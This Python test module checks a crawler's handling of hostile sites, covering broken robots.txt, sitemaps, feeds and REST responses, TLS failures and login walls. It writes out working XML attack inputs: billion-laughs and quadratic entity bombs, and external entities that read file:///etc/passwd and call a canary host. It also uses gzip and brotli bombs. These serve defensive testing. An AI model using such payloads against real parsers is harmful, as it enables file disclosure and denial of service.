"""What robots.txt, sitemaps, feeds and REST can do to whoever reads them, and what comes of it."""

from __future__ import annotations

import gzip
import itertools
from collections.abc import Callable
from dataclasses import dataclass

from tests.spiders.hostile import bombs, pages
from tests.spiders.hostile.certificates import untrusted
from tests.spiders.hostile.server import (
    SCHEMA,
    Asked,
    HostileSite,
    Serve,
    missing,
    story,
    text,
    xml,
)

SHORT = 0.8
GOOD = range(10_001, 10_004)
REST = "/wp-json/wp/v2/posts"


@dataclass(frozen=True)
class SiteCase:
    """A site with something hostile about it; three good articles are in its sitemap."""

    name: str
    arrange: Callable[[HostileSite, str], None]
    """Takes the site and the address of the canary."""
    ends: str = ""
    """Beginning of `<outcome>:<reason>` of the hostile source, '' if it may have any."""
    source: str = "/hostile.xml"
    problem: str = ""
    """Beginning of why nothing could be read; '' if the articles must be complete."""
    pages: str = "new"
    """What the articles end in, '' if they are never named."""
    timeout: float = 20.0
    """Seconds for a response: enough for a busy machine, but for those that never end."""
    make: Callable[[str], HostileSite] = HostileSite
    """Makes the site of that name."""


def arranged(site: HostileSite, canary: str, case: SiteCase) -> None:
    """Makes the site good, and then as hostile as the case wants it."""
    site.answers["/sitemap.xml"] = site.urlset([site.publish_good(n) for n in GOOD])
    robots(site, "Sitemap: /sitemap.xml\nSitemap: /hostile.xml")
    case.arrange(site, canary)


def robots(site: HostileSite, rules: str | bytes) -> None:
    site.answers["/robots.txt"] = text(rules)


def has(path: str, serve: Serve) -> Callable[[HostileSite, str], None]:
    """The site answers at one path with what it is told."""

    def arrange(site: HostileSite, canary: str) -> None:
        site.answers[path] = serve

    return arrange


def reads(rules: str | bytes) -> Callable[[HostileSite, str], None]:
    return has("/robots.txt", text(rules))


def hostile(body: str | bytes) -> Callable[[HostileSite, str], None]:
    return has("/hostile.xml", xml(body))


def rest(body: str | bytes) -> Callable[[HostileSite, str], None]:
    return has(REST, lambda asked: asked.answer(body, "Content-Type: application/json"))


def feed(body: str | bytes) -> Callable[[HostileSite, str], None]:
    return has("/feed/", xml(body))


def urlset(locations: str) -> str:
    return f"<urlset {SCHEMA}><url><loc>{locations}</loc></url></urlset>"


def redirected_robots(site: HostileSite, canary: str) -> None:
    site.answers["/robots.txt"] = pages.redirect(f"http://{canary}/robots.txt")


def external_entities(site: HostileSite, canary: str) -> None:
    site.answers["/hostile.xml"] = xml(
        f'<?xml version="1.0"?><?xml-stylesheet href="http://{canary}/a.xsl"?>'
        f'<!DOCTYPE urlset SYSTEM "http://{canary}/a.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY c SYSTEM "http://{canary}/entity"><!ENTITY % p SYSTEM "http://{canary}/p"> %p;]>'
        f'<urlset {SCHEMA} xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="http://{canary}/xi"/>'
        f"<url><loc>{site.url('/desh/a-story-10003')}</loc><lastmod>&f;</lastmod></url>"
        "<url><loc>&f;&c;</loc></url></urlset>"
    )


def external_entities_in_feed(site: HostileSite, canary: str) -> None:
    site.answers["/feed/"] = xml(
        f'<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY c SYSTEM "http://{canary}/entity">]><rss version="2.0"><channel>'
        f"<item><title>&f;&c;</title><link>{site.url('/desh/a-story-10003')}</link></item>"
        "</channel></rss>"
    )


def loop_of_two(site: HostileSite, canary: str) -> None:
    site.answers["/hostile.xml"] = site.index(["/b.xml", "/hostile.xml"])
    site.answers["/b.xml"] = site.index(["/hostile.xml", "/b.xml"])


def ever_deeper(site: HostileSite, canary: str) -> None:
    numbers = itertools.count()

    def serve(asked: Asked) -> None:
        site.index([f"/hostile.xml?{next(numbers)}" for _ in range(3)])(asked)

    site.answers["/hostile.xml"] = serve


def ever_wider(site: HostileSite, canary: str) -> None:
    site.answers["/hostile.xml"] = site.index([f"/child-{n}.xml" for n in range(site.many)])


def many_in_robots(site: HostileSite, canary: str) -> None:
    lines = "".join(f"Sitemap: /child-{n}.xml\n" for n in range(site.many))
    robots(site, f"Sitemap: /sitemap.xml\n{lines}Sitemap: http://{canary}/sitemap.xml\n")


def foreign(site: HostileSite, canary: str) -> None:
    urls = [f"http://{canary}/desh/a-story-{n}" for n in range(site.many // 2)]
    site.answers["/hostile.xml"] = site.urlset(urls)


def too_many(site: HostileSite, canary: str) -> None:
    site.answers["/hostile.xml"] = site.urlset([f"/tag/{n}" for n in range(site.many)])


def endless_sitemap(asked: Asked) -> None:
    asked.head("Content-Type: text/xml")
    asked.send(f"<urlset {SCHEMA}>".encode())
    asked.forever(b"<url><loc>/desh/a-story-10003</loc></url>" * 1_000)


def endless_feed(site: HostileSite, canary: str) -> None:
    numbers = itertools.count(20_001)

    def serve(asked: Asked) -> None:
        links = [asked.site.url(f"/desh/a-story-{next(numbers)}") for _ in range(10)]
        items = "".join(f"<item><title>a</title><link>{link}</link></item>" for link in links)
        xml(f'<rss version="2.0"><channel>{items}</channel></rss>')(asked)

    site.answers["/feed/"] = serve
    site.answers["/sitemap.xml"] = missing


def endless_rest(site: HostileSite, canary: str) -> None:
    numbers = itertools.count(20_001)

    def serve(asked: Asked) -> None:
        posts = [
            f'{{"link": "{asked.site.url(f"/tag/{next(numbers)}")}",'
            f' "modified_gmt": "2026-03-01T06:30:00"}}'
            for _ in range(100)
        ]
        asked.answer(f"[{','.join(posts)}]", "Content-Type: application/json")

    site.answers[REST] = serve


def calendar(site: HostileSite, canary: str) -> None:
    """No sitemap, feed or REST; the front page leads into a calendar without an end."""
    numbers = itertools.count(1)
    articles = "".join(f'<a href="/desh/a-story-{n}">ख़बर {n}</a>' for n in GOOD)

    def serve(asked: Asked) -> None:
        months = "".join(f'<a href="/kalendar/{next(numbers)}/">माह</a>' for _ in range(20))
        onward = f'<a rel="next" href="/kalendar/page/{next(numbers)}/">आगे</a>'
        asked.answer(f"<html><body>{articles}{months}{onward}</body></html>")

    site.answers.pop("/sitemap.xml")
    site.answers["/"] = serve
    site.fallback = lambda asked: (serve if "kalendar" in asked.path else missing)(asked)
    robots(site, "")


def maintenance(site: HostileSite, canary: str) -> None:
    site.answers.clear()
    site.fallback = pages.answer("<html><h1>रखरखाव</h1><p>We will be back soon.</p></html>")


def _walled(site: HostileSite, serve: Serve) -> None:
    paths = [f"/desh/a-story-{n}" for n in range(10_001, 10_011)]
    site.answers |= dict.fromkeys(paths, serve)
    site.answers["/sitemap.xml"] = site.urlset(paths)


def consent_wall(site: HostileSite, canary: str) -> None:
    _walled(site, lambda asked: asked.answer(story(1), "Set-Cookie: consent=0"))


def login_wall(site: HostileSite, canary: str) -> None:
    _walled(site, pages.redirect("/wp-login.php?redirect_to=x"))
    site.answers["/wp-login.php"] = pages.answer("<h1>प्रवेश</h1>")


def cookie_wall(site: HostileSite, canary: str) -> None:
    _walled(site, pages.to_itself_with_cookie)


def garbled_tls(name: str) -> HostileSite:
    site = HostileSite(name, scheme="https")
    site.greeting = b"\x16\x03\x01" + bytes(range(256))
    return site


def silent_tls(name: str) -> HostileSite:
    """It waits for a request that never comes, as the handshake is never answered."""
    return HostileSite(name, scheme="https")


def self_signed_tls(name: str) -> HostileSite:
    return HostileSite(name, scheme="https", tls=untrusted())


def expired_tls(name: str) -> HostileSite:
    return HostileSite(name, scheme="https", tls=untrusted(expired=True))


def nothing(site: HostileSite, canary: str) -> None:
    """Leaves the site as good as it is."""


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'
QUADRATIC = f'<!DOCTYPE x [<!ENTITY q "{"a" * 60_000}">]>'
ITEM = "<item><title>{0}</title><link>http://127.0.0.1/{0}</link></item>"
ROBOTS = "robots.txt could not be read: "

ROBOTS_CASES = (
    SiteCase(
        "robots.txt drips",
        has("/robots.txt", pages.drips_body),
        problem=ROBOTS + "timeout",
        timeout=SHORT,
    ),
    SiteCase(
        "robots.txt is silent",
        has("/robots.txt", pages.says_nothing),
        problem=ROBOTS + "timeout",
        timeout=SHORT,
    ),
    SiteCase(
        "robots.txt without end",
        has("/robots.txt", pages.endless_body),
        problem=ROBOTS + "too_large",
    ),
    SiteCase(
        "robots.txt, endless headers",
        has("/robots.txt", pages.endless_headers),
        problem=ROBOTS + "too_large",
    ),
    SiteCase(
        "robots.txt a gzip bomb",
        has("/robots.txt", pages.packed(bombs.gzipped, "gzip")),
        problem=ROBOTS + "too_large",
    ),
    SiteCase(
        "robots.txt reset", has("/robots.txt", pages.resets_at_once), problem=ROBOTS + "reset"
    ),
    SiteCase("robots.txt is garbage", has("/robots.txt", pages.raw(b"\0" * 5_000)), problem=ROBOTS),
    SiteCase("garbage for TLS", nothing, problem=ROBOTS + "tls", make=garbled_tls),
    SiteCase(
        "TLS never answers", nothing, problem=ROBOTS + "timeout", make=silent_tls, timeout=SHORT
    ),
    SiteCase("certificate of its own", nothing, problem=ROBOTS + "tls", make=self_signed_tls),
    SiteCase("expired certificate", nothing, problem=ROBOTS + "tls", make=expired_tls),
    SiteCase("robots.txt is HTML", has("/robots.txt", pages.answer("<html>Disallow: /</html>"))),
    SiteCase("robots.txt is binary", reads(bytes(range(256)) * 50)),
    SiteCase("robots.txt on another host", redirected_robots),
    SiteCase("robots.txt in a loop", has("/robots.txt", pages.to_itself_with_cookie)),
    SiteCase(
        "30,000 rules",
        reads("User-agent: *\n" + "".join(f"Disallow: /*x{n}y*\n" for n in range(30_000))),
    ),
    SiteCase("rules of stars", reads("User-agent: *\nDisallow: /" + "*a" * 5_000 + "$\n")),
    SiteCase("thousands of sitemaps", many_in_robots),
    SiteCase(
        "delays that are none",
        reads("User-agent: *\nCrawl-delay: nan\nRequest-rate: 0/1\nCrawl-delay: -5\n"),
    ),
    SiteCase("endless delay", reads("User-agent: *\nCrawl-delay: inf\n")),
    SiteCase("delay of a year", reads("User-agent: *\nCrawl-delay: 31536000\n"), pages=""),
)

SOURCE_CASES = (
    SiteCase("billion laughs", hostile(BOMB + urlset("&l9;")), "read"),
    SiteCase("quadratic entities", hostile(QUADRATIC + urlset("&q;" * 20_000)), "read"),
    SiteCase("external entities", external_entities, "read"),
    SiteCase("broken XML", hostile("<urlset><url><loc>/desh/a-story-9<"), "failed:not_a_source"),
    SiteCase(
        "100,000 elements deep",
        hostile(f"<urlset {SCHEMA}>" + "<a>" * 100_000),
        "failed:not_a_source",
    ),
    SiteCase("URL of 2 MB", hostile(urlset("/desh/" + "a" * 2_000_000)), "read"),
    SiteCase(
        "sitemap names itself",
        has(
            "/hostile.xml",
            xml(
                f"<sitemapindex {SCHEMA}><sitemap><loc>/hostile.xml</loc></sitemap></sitemapindex>"
            ),
        ),
        "read",
    ),
    SiteCase("sitemaps name each other", loop_of_two, "read"),
    SiteCase("ever deeper sitemaps", ever_deeper, "read"),
    SiteCase("thousands of child sitemaps", ever_wider, "read"),
    SiteCase("thousands of foreign URLs", foreign, "read"),
    SiteCase("more URLs than allowed", too_many, "failed:not_a_source"),
    SiteCase("sitemap without end", has("/hostile.xml", endless_sitemap), "failed:too_large"),
    SiteCase(
        "sitemap drips", has("/hostile.xml", pages.drips_body), "failed:timeout", timeout=SHORT
    ),
    SiteCase(
        "sitemap a gzip file of 512 MB",
        has("/hostile.xml", pages.answer(bombs.gzipped(), "Content-Type: application/gzip")),
        "failed:",
    ),
    SiteCase(
        "sitemap a brotli bomb",
        has("/hostile.xml", pages.packed(bombs.brotlied, "br")),
        "failed:too_large",
    ),
    SiteCase(
        "sitemap a gzip file cut off",
        hostile(gzip.compress(urlset("/desh/x").encode())[:40]),
        "failed:not_a_source",
    ),
    SiteCase(
        "sitemap is a login",
        has("/hostile.xml", pages.answer("<html>login</html>")),
        "failed:not_a_source",
    ),
    SiteCase(
        "sitemap redirects in a loop",
        has("/hostile.xml", pages.to_itself_with_cookie),
        "failed:too_many_redirects",
    ),
    SiteCase(
        "feed of laughs",
        feed(f'{BOMB}<rss version="2.0"><channel>{ITEM.format("&l9;")}</channel></rss>'),
        "",
        "/feed/",
    ),
    SiteCase("external entities in feed", external_entities_in_feed, "read", "/feed/"),
    SiteCase(
        "feed of 100,000 items",
        feed(
            '<rss version="2.0"><channel>'
            + "".join(map(ITEM.format, range(100_000)))
            + "</channel></rss>"
        ),
        "failed:too_large",
        "/feed/",
    ),
    SiteCase(
        "feed 100,000 deep", feed('<rss version="2.0"><channel>' + "<item>" * 100_000), "", "/feed/"
    ),
    SiteCase(
        "feed drips", has("/feed/", pages.drips_body), "failed:timeout", "/feed/", timeout=SHORT
    ),
    SiteCase("feed pages without end", endless_feed, "read", "/feed/", pages=""),
    SiteCase("JSON 100,000 deep", rest("[" * 100_000), "absent:not_a_source", REST),
    SiteCase("JSON of empty lists", rest("[" + "[]," * 300_000 + "[]]"), "", REST),
    SiteCase(
        "number of 900,000 digits",
        rest('[{"link": 1' + "0" * 900_000 + "}]"),
        "absent:not_a_source",
        REST,
    ),
    SiteCase(
        "JSON of NaN", rest('[NaN, {"link": Infinity}, {"link": null, "title": NaN}]'), "read", REST
    ),
    SiteCase("JSON without end", has(REST, pages.endless_body), "failed:too_large", REST),
    SiteCase("REST pages without end", endless_rest, "read", REST),
    SiteCase("calendar without end", calendar),
    SiteCase("maintenance everywhere", maintenance, problem="http", pages=""),
    SiteCase("consent wall", consent_wall, pages="failed:wall"),
    SiteCase("login wall", login_wall, pages="failed:redirected_away"),
    SiteCase("cookie wall", cookie_wall, pages="failed:too_many_redirects"),
)
